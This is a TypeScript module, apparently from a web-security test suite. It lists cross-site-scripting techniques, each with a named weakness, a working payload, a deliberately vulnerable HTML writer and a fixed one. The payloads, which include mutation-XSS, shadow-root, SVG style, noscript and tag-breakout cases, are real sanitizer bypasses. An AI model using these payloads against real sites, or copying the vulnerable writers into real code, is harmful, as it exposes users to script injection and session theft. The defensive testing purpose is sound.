import { at, escapeHtml, keep, inText, toScript, type Technique } from './technique.ts'

/** Writes the text into the page by script, with these statements. */
const write = (text: string, statements: string): string =>
  `<div id="out"></div><script>{ const text = ${toScript(text)}; ${statements} }</script>`

const writePlainly = (text: string): string => write(text, 'out.textContent = text')

/** Removes scripts and handlers from a parsed text; the result is in `parsed`. */
const sanitize = `
  const parsed = new DOMParser().parseFromString(text, 'text/html')
  for (const element of parsed.querySelectorAll('*')) {
    if (element.localName === 'script') element.remove()
    for (const { name } of [...element.attributes]) if (name.startsWith('on')) element.removeAttribute(name)
  }`

/** Against builds that parse a text differently from the browser. */
export const parserTechniques: Technique[] = [
  {
    name: 'markup written by script',
    weakness: 'answers of the API are written with innerHTML',
    payload: ({ call }) => `<iframe onload=${call}>`,
    broken: (text) => write(text, 'out.innerHTML = text'),
    fixed: writePlainly,
  },
  {
    name: 'nested forms',
    weakness: 'a sanitized tree is written out and parsed again, which gives another tree',
    payload: ({ call }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
    broken: (text) => write(text, `${sanitize}; out.innerHTML = parsed.body.innerHTML`),
    fixed: writePlainly,
  },
  {
    name: 'shadow root',
    weakness: 'the sanitizer does not look into templates, which become shadow roots',
    payload: ({ call }) => `<p><template shadowrootmode=open><img src=x onerror=${call}>`,
    broken: (text) => write(text, `${sanitize}; out.setHTMLUnsafe(parsed.body.innerHTML)`),
    fixed: writePlainly,
  },
  {
    name: 'style in SVG',
    weakness: 'the filter takes the content of style elements for text, in SVG it is markup',
    payload: ({ call }) => `<svg><style><img src=x onerror=${call}></style>`,
    ...at(inText, (text) =>
      text.replace(/<style>.*?<\/style>|\son\w+\s*=[^\s>]*/gis, (part) => (part.startsWith('<style>') ? part : '')),
    ),
  },
  {
    name: 'noscript',
    weakness: 'the filter reads noscript as a browser without script does',
    payload: ({ call }) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    ...at(inText, (text) => (/\son\w+\s*=/i.test(text.replace(/"[^"]*"/g, '""')) ? '' : text)),
  },
  {
    name: 'end of a textarea',
    weakness: 'the content of a textarea is not escaped',
    payload: ({ call }) => `</textarea><svg onload=${call}>`,
    ...at((text) => `<textarea>${text}</textarea>`, keep),
  },
  {
    name: 'end of the title',
    weakness: 'the title is not escaped',
    payload: ({ call }) => `</title><svg onload=${call}>`,
    ...at((text) => `<title>${text}</title>`, keep),
  },
  {
    name: 'end of a comment',
    weakness: 'a comment is guarded against -->, and not against --!>',
    payload: ({ call }) => `--!><svg onload=${call}>`,
    ...at(
      (text) => `<!-- ${text} -->`,
      (text) => text.replaceAll('-->', ''),
    ),
  },
  {
    name: 'end of a JSON block',
    weakness: 'JSON in a script element is not escaped',
    payload: ({ call }) => `</script><svg onload=${call}>`,
    ...at((text) => `<script type="application/json">${text}</script>`, JSON.stringify, toScript),
  },
  {
    name: 'comment in a script',
    weakness: 'JSON is guarded against </script>, and not against <!--, after which the end of the script is none',
    payload: ({ call }) => `<!--<script></script></script><svg onload=${call}>`,
    broken: (text) =>
      `<script>const shown = ${JSON.stringify(text).replaceAll('</script', String.raw`<\/script`)}</script>
      <b title="${escapeHtml(text, /[&"]/g)}">x</b>`,
    fixed: (text) => `<script>{ const shown = ${toScript(text)} }</script><b title="${escapeHtml(text)}">x</b>`,
  },
]
